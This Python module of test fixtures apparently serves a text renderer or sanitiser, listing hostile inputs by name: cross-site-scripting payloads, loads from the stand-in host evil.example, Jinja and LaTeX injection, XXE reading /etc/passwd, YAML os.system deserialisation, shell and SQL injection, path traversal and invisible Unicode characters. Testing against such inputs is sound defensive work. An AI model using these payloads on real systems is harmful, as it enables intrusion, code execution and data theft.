"""Texts that try to be something else: code, markup, syntax, paths, nothing at all.

A payload that would run sets `window.pwned` or opens a dialogue.  Those of `INVISIBLE`
print as nothing or turn the direction of writing; `check` must name them.
"""

from __future__ import annotations

_RUN = "window.pwned=1"

SCRIPTS = {
    "script": f"<script>{_RUN}</script>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "script-split": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script-case": f"<ScRiPt >{_RUN}</sCrIpT\t>",
    "script-entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "script-json-end": f"</script><script>{_RUN}</script>",
    "title-end": f"</title><script>{_RUN}</script>",
    "comment-end": f"--><script>{_RUN}</script><!--",
    "textarea-end": f"</textarea><img src=x onerror={_RUN}>",
    "image-onerror": f"<img src=x onerror={_RUN}>",
    "image-elsewhere": '<img src="https://evil.example/pixel.png">',
    "svg-onload": f"<svg onload={_RUN}>",
    "svg-script": f"<svg><script>{_RUN}</script></svg>",
    "body-onload": f"<body onload={_RUN}>",
    "details-toggle": f"<details open ontoggle={_RUN}>",
    "input-autofocus": f"<input autofocus onfocus={_RUN}>",
    "iframe": '<iframe src="javascript:parent.pwned=1"></iframe>',
    "object": '<object data="https://evil.example/"></object>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "style": "<style>@import url(https://evil.example/x.css);*{display:none}</style>",
    "link-sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "form": '<form action="https://evil.example/"><button>x</button></form>',
    "math-mutation": f"<math><mi><style><img src=x onerror={_RUN}></style></mi></math>",
    "noscript-mutation": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    "attribute-double": f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    "attribute-single": f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}' x='",
    "attribute-backtick": f"` onmouseover=`{_RUN}` x=`",
    "bare-anchor": f'<a href="javascript:{_RUN}">link</a>',
    "anchor-split": "<a href='java\tscript:alert(1)'>link</a>",
}
MARKDOWN = {
    "md-link": f"[link](javascript:{_RUN})",
    "md-link-data": "[link](data:text/html,<script>alert(1)</script>)",
    "md-image": "![image](https://evil.example/pixel.png)",
    "md-image-break": f'![x](x"onerror="{_RUN})',
    "md-reference": "[link][ref] and [ref]: javascript:alert(1)",
    "md-autolink": f"<javascript:{_RUN}>",
    "md-attr-list": f"*text*{{: onclick={_RUN} }}",
    "md-attr-list-block": "{: #main .lost onmouseover=alert(1) }",
    "md-heading": "# heading {#main}",
    "md-code": "`code` and ``` fence ```",
    "md-emphasis": "**bold** _em_ ~~gone~~ ==mark==",
    "md-table": "a | b | c",
    "md-rule": "--- and *** and ___",
    "md-escapes": "\\<b\\> \\[x\\](y) \\\\",
    "md-quote": "> quote > of - a + list 1. item",
    "md-stash": "wzxhzdk:0 klzzwxh:0001 and amp-substitute",
}
TEMPLATES = {
    "jinja": "{{ 7 * 7 }}{{ config }}{% raw %}",
    "jinja-include": "{% include '/etc/passwd' %}{# gone #}",
    "jinja-class": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "liquid": "{{ site.github | jsonify }}{% assign x = 1 %}",
    "format": "{0.__class__} {citation} {n} %s %(name)s %n",
    "shell": "$(touch pwned) `id` ${HOME} ; rm -rf x | cat",
    "typst": '#import "/etc/passwd" #eval("1") #read("x") $x$ @ref <label>',
    "typst-raw": "#set text(fill: white) #panic() \\u{41} //gone /*gone*/",
    "latex": "\\input{/etc/passwd} \\write18{id}",
}
SYNTAX = {
    "cdata": "]]><b>x</b><![CDATA[",
    "doctype": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "processing": "<?xml-stylesheet href='x'?><?php echo 1 ?>",
    "entity-named": "&nbsp;&lt;&amp;lt;&copy;&hellip;",
    "entity-numbered": "&#60;b&#62; &#x3c;i&#x3e; &#0;",
    "entity-javascript": "&#106;avascript:alert(1)",
    "toml": '""" \\n [law] id = "x" # gone',
    "yaml": "!!python/object/apply:os.system ['id'] --- &a *a",
    "po": 'msgid "" msgstr "Content-Type: text/plain; charset=UTF-7\\n"',
    "csv": '=HYPERLINK("https://evil.example/","x") +1 @SUM(1)',
    "json": '"},{"x":"\\u003cscript\\u003e',
    "utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "path": "../../../../etc/passwd ..\\..\\x /etc/passwd C:\\x",
    "reserved": "CON PRN AUX NUL COM1 LPT1 .git .. .",
    "sql": "'; DROP TABLE laws; --",
    "long": "长" * 20_000,
    "nested": "（" * 300 + "内" + "）" * 300,
    "nested-tags": "<b>" * 300 + "x",
    "combining": "a" + "\u0301" * 50,
    "astral": "𠮷𠀀😀",
}
INVISIBLE = {
    "zero-width-space": "法\u200b律",
    "zero-width-joiner": "法\u200d律",
    "word-joiner": "法\u2060律",
    "byte-order-mark": "法\ufeff律",
    "soft-hyphen": "法\u00ad律",
    "right-to-left-override": "法\u202e律",
    "left-to-right-embedding": "法\u202a律",
    "isolate": "法\u2067律\u2069",
    "mark-right": "法\u200f律",
    "tag-character": "法\U000e0041律",
    "interlinear": "法\ufff9律",
}
VISIBLE = {**SCRIPTS, **MARKDOWN, **TEMPLATES, **SYNTAX}
PAYLOADS = {**VISIBLE, **INVISIBLE}
